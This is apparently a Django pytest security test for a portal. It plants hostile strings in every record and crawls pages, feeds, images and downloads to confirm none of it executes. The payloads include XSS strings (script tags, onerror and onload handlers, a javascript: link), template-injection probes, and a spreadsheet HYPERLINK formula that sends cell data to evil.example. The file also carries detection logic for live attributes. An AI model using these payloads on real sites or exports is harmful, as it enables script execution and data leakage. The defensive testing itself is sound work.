"""What enemies typed: every page, feed, picture and file of every role is opened, and nothing of it becomes alive."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from urllib.parse import urlsplit
from xml.etree import ElementTree as ET

import pytest
from django.http import HttpResponse
from django.test import Client
from selectolax.lexbor import LexborHTMLParser

from portal.faces.api.files.formats import DANGEROUS
from portal.ground.people.models import Person
from tests.portal.hostile.world import as_json, make_everything, paths, poison

pytestmark = [pytest.mark.django_db, pytest.mark.slow]

MARKUP = "\"'><script>alert(1)</script><img src=x onerror=alert(1)>]]>--></title></textarea></style>{{7*7}}{%now%}"
LINK = "javascript:alert(1)//http://x.example/<svg/onload=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
STRANGE = "alert(1)\x01\x1b[31m\u202egnp.exe\u2066\u200f\ufeff\uffff\U0010ffff" + "W" * 300 + "עברית العربية" + "Z͑ͫ̓" * 9
SAFE = {"", "http", "https", "mailto", "viber"}
LIVE = ("href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcset")


def text_of(answer: HttpResponse) -> bytes:
    return b"".join(answer.streaming_content) if answer.streaming else answer.content  # type: ignore[attr-defined]


def alive(html: str) -> Iterator[str]:
    """What in a page would run, or lead to what runs."""
    for element in LexborHTMLParser(html).css("*"):
        tag, attributes = element.tag or "", element.attributes
        if tag == "script" and not attributes.get("src") and attributes.get("type") != "application/json":
            yield f"script: {element.text()}"
        if tag in ("iframe", "object", "embed", "base", "style", "svg:script"):
            yield tag
        for name, value in attributes.items():
            if name.startswith("on") or name == "style" or "<script" in name:
                yield f"{tag} {name}"
            scheme = urlsplit("".join((value or "").split())).scheme.lower() if name in LIVE else ""
            if scheme not in SAFE and not (tag == "img" and (value or "").startswith("data:image/")):
                yield f"{tag} {name}={(value or '')[:60]}"
    if "49{%now%}" in html:
        yield "a template ran"


def faults(path: str, answer: HttpResponse, body: bytes) -> Iterator[str]:
    """What is wrong with an answer, in words."""
    media = answer.get("Content-Type", "").partition(";")[0]
    if media == "text/html":
        yield from alive(body.decode())
    elif media in ("image/svg+xml", "application/atom+xml"):
        for element in ET.fromstring(body.decode()).iter():
            tag = element.tag.rpartition("}")[2]
            if tag == "script" or any(name.rpartition("}")[2].startswith("on") for name in element.attrib):
                yield f"svg {tag}"
            where = [value for name, value in element.attrib.items() if name.rpartition("}")[2] == "href"]
            yield from (value for value in where if urlsplit(value).scheme not in SAFE)
            yield from alive(element.text or "") if tag in ("summary", "content") else ()
    elif media in ("application/json", "application/manifest+json"):
        as_json(body)
    elif media == "application/xml":
        ET.fromstring(body.decode())
    elif media == "text/csv":
        rows = list(csv.reader(io.StringIO(body.decode(), newline="")))
        formulas = (cell for row in rows[1:] for cell in row if cell.startswith(DANGEROUS) and not _is_guarded(cell))
        yield from (f"formula {cell[:20]}" for cell in formulas)
    elif media == "application/pdf":
        assert body.startswith(b"%PDF"), path
    elif media == "application/zip":
        assert answer["Content-Disposition"].startswith("attachment"), path
    elif media not in ("text/plain", "application/jsonl", "image/png", "image/webp", "") and "parquet" not in media:
        yield f"what is {media}?"
    if media != "text/html" and answer.status_code == 200 and answer.get("X-Content-Type-Options") != "nosniff":
        yield f"{media} may be sniffed"


def _is_guarded(cell: str) -> bool:
    return cell.startswith("'") or re.fullmatch(r"-?[0-9.]+", cell) is not None


def crawl(client: Client, addresses: dict[str, list[str]], shown: set[str] | None = None) -> list[str]:
    """What is wrong anywhere, with its address; into `shown` go the names of pages on which the mark stands."""
    wrong = []
    for name, each in addresses.items():
        for path in each:
            answer = client.get(path)
            body = text_of(answer)
            wrong += [f"{name} {path}: {fault}" for fault in faults(path, answer, body)]
            if answer.status_code >= 500:
                wrong.append(f"{name} {path}: {answer.status_code}")
            if shown is not None and b"alert(1)" in body:
                shown.add(name)
    return wrong


def signed_in(person: Person) -> Client:
    client = Client()
    client.force_login(person, backend="allauth.account.auth_backends.AuthenticationBackend")
    return client


def everywhere_but(addresses: dict[str, list[str]], *starts: str) -> dict[str, list[str]]:
    return {name: each for name, each in addresses.items() if not name.startswith(starts)}


@pytest.mark.parametrize("text", [MARKUP, LINK, STRANGE], ids=["markup", "link", "strange"])
def test_nothing_that_somebody_typed_becomes_alive(text: str) -> None:
    world = make_everything()
    assert poison(text) > 40
    everywhere = paths(world)
    outside = everywhere_but(everywhere, "desk", "download")

    shown: set[str] = set()
    wrong = {"admin": crawl(signed_in(world.admin), everywhere, shown), "anonymous": crawl(Client(), outside)}
    if text == MARKUP:
        wrong["citizen"] = crawl(signed_in(world.citizen), outside)

    assert len(shown) > 40, "the mark stands on too few pages: is the world still full?"
    assert {who: found for who, found in wrong.items() if found} == {}


def test_no_cell_of_a_file_is_a_formula() -> None:
    world = make_everything()
    poison(FORMULA)

    assert crawl(Client(), {"download": paths(world)["download"]}) == []
